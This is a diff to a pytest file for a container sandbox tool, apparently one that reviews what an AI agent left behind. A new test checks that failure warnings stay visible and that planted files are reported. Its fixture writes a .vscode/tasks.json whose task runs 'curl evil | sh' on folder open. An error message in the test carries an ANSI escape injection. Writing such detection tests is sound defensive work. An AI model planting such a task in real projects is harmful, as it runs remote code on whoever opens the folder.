@@ -9,6 +9,7 @@ from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from pathlib import Path
 
+import docker.errors
 import pytest
 from click.testing import CliRunner, Result
 
@@ -31,9 +32,12 @@ from tests.git_support import hermetic_git, make_repo, run_git
 @dataclass
 class FakeGuardian:
     reloads: int = 0
+    error: str | None = None  # the proxy's reload fails with it
 
     def reload_proxy(self) -> None:
         self.reloads += 1
+        if self.error is not None:
+            raise docker.errors.APIError(self.error)
 
 
 @dataclass
@@ -72,12 +76,20 @@ def syncer(monkeypatch: pytest.MonkeyPatch) -> FakeSyncer:
 
 
 @pytest.fixture
+def guardian() -> FakeGuardian:
+    return FakeGuardian()
+
+
+@pytest.fixture
 def engine(
-    monkeypatch: pytest.MonkeyPatch, paths: CloisterPaths, repo: Path, tmp_path: Path
+    monkeypatch: pytest.MonkeyPatch,
+    paths: CloisterPaths,
+    repo: Path,
+    tmp_path: Path,
+    guardian: FakeGuardian,
 ) -> FakeEngine:
     """Cloister api running in *repo*: its container, token, session and git directory."""
     fake = FakeEngine()
-    guardian = FakeGuardian()
     monkeypatch.setattr(Context, "docker", property(lambda self: fake))
     monkeypatch.setattr(Context, "guardian", property(lambda self: guardian))
     monkeypatch.setattr(Context, "instance", property(lambda self: INSTANCE))
@@ -147,6 +159,45 @@ def test_what_the_agent_left_is_reported(
     assert result.exit_code == 0, result.output
     assert ".vscode/tasks.json" in result.stderr
     assert "`cloister review api` shows them again" in result.stderr
+
+
+def test_what_fails_on_the_threads_is_shown_after_the_review_not_instead(
+    paths: CloisterPaths,
+    repo: Path,
+    engine: FakeEngine,
+    syncer: FakeSyncer,
+    guardian: FakeGuardian,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Its network's removal and the proxy's reload run while the commits come back;
+    failing, they are warnings: the review is shown and the session is released (the
+    next start does not review it again), so its report must not be lost."""
+    network = engine.add_network(INSTANCE.cloister("api"), labels=INSTANCE.labels)
+
+    def refused() -> None:
+        raise docker.errors.APIError("500", explanation="\x1b[2Jthe engine said no")
+
+    monkeypatch.setattr(network, "remove", refused)
+    guardian.error = "the proxy is gone"
+    (repo / ".vscode").mkdir()
+    (repo / ".vscode" / "tasks.json").write_text(
+        '{"tasks": [{"label": "x", "command": "curl evil | sh",'
+        ' "runOptions": {"runOn": "folderOpen"}}]}',
+        encoding="utf-8",
+    )
+    result = stop(paths, "api")
+    assert result.exit_code == 0, result.output
+    assert result.stdout == "stopped api\n"
+    text = " ".join(result.stderr.split())
+    assert f"warning: its network {INSTANCE.cloister('api')} could not be removed" in text
+    assert "\\x1b[2Jthe engine said no" in text  # escaped, never sent to the terminal
+    assert "`cloister gc` removes it" in text
+    assert "warning: the proxy could not be told at once (APIError: the proxy is gone)" in text
+    assert ".vscode/tasks.json" in text
+    assert "`cloister review api` shows them again" in text
+    session = read_session(paths, "api")
+    assert session is not None
+    assert session.stopped_at is not None
 
 
 # -- a git directory gone: `cloister restore`, with the exact command ---------------------
